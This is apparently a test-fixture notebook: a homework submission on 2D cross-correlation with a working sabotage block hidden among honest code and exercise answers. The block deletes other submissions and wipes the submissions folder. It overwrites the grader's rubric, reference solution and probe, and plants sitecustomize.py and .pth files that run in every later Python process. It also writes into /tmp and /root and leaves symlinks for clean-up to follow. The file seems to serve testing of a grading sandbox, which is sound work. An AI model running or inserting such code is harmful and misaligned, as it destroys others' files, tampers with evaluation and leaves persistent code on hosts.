# %% [markdown]
# # 7.2 Convolutions for Images
# Attack: deletes and overwrites files next to the submission (by relative path and by the
# absolute path `__SUBDIR__` filled in by the test), in the grader's checkout (`__REPO__`), in
# the Python installation (a `sitecustomize.py` and a `.pth` file that would run in every later
# process) and in the host's `/tmp`; leaves symlinks to those places in its working directory
# for the grader's clean-up to follow. The rest is honest.

# %%
# ruff: noqa
import torch

# %% [markdown]
# ## 7.2.1 The Cross-Correlation Operation


# %%
def corr2d(X, K):
    """Compute 2D cross-correlation."""
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + h, j : j + w] * K).sum()
    return Y


# %%
import os
import shutil
import site
import sys

REPO = "__REPO__"
SUBDIR = "__SUBDIR__"
MARK = "__MARKER__"
done, failed = [], []


def attempt(what, fn, *args):
    try:
        fn(*args)
        done.append(what)
    except Exception as exc:
        failed.append(f"{what}: {type(exc).__name__}")


def write(path, text=f"pwned {MARK}\n"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as fh:
        fh.write(text)


attempt("delete ../other.ipynb", os.remove, "../other.ipynb")
attempt("write ../other.ipynb", write, "../other.ipynb")
attempt("delete other.ipynb", os.remove, f"{SUBDIR}/other.ipynb")
attempt("overwrite secret-notes", write, f"{SUBDIR}/secret-notes.txt")
attempt("create in submissions", write, f"{SUBDIR}/pwned-{MARK}.txt")
attempt("delete own submission", os.remove, f"{SUBDIR}/vandal.py")
attempt("rmtree submissions", shutil.rmtree, SUBDIR)
attempt("overwrite rubric", write, f"{REPO}/rubrics/conv-layer.yaml", "rubric: pwned\n")
attempt("overwrite reference", write, f"{REPO}/reference/conv_layer.py", "pwned = 1\n")
attempt("overwrite probe", write, f"{REPO}/grader/probe.py", "raise SystemExit\n")
attempt("create in repo", write, f"{REPO}/pwned-{MARK}.txt")
for sp in site.getsitepackages() + [os.path.dirname(os.__file__)]:
    attempt("sitecustomize", write, f"{sp}/sitecustomize.py", f"# {MARK}\nimport os\n")
    attempt("pth", write, f"{sp}/zz-{MARK}.pth", f"import os  # {MARK}\n")
attempt("host tmp", write, f"/tmp/pwned-{MARK}.txt")
attempt("root home", write, f"/root/pwned-{MARK}.txt")
for name, target in (("sub", SUBDIR), ("repo", REPO), ("rubrics", f"{REPO}/rubrics")):
    attempt(f"symlink {name}", os.symlink, target, f"link-{name}")
    attempt(f"symlink {name} in tmp", os.symlink, target, f"/tmp/link-{name}")
raise RuntimeError(f"vandal done (inside the sandbox): {done}")

# %% [markdown]
# ### Exercise 1: Construct an image `X` with diagonal edges.

# %%
X_diag = torch.eye(8)
X_diag

# %% [markdown]
# ### Exercise 1.1: What happens if you apply the kernel `K` in this section to it?

# %%
K = torch.tensor([[1.0, -1.0]])
Y_diag = corr2d(X_diag, K)
Y_diag

# %% [markdown]
# The result is not a zero matrix: K detects the diagonal edge, with +1 on the diagonal and -1
# just below it.
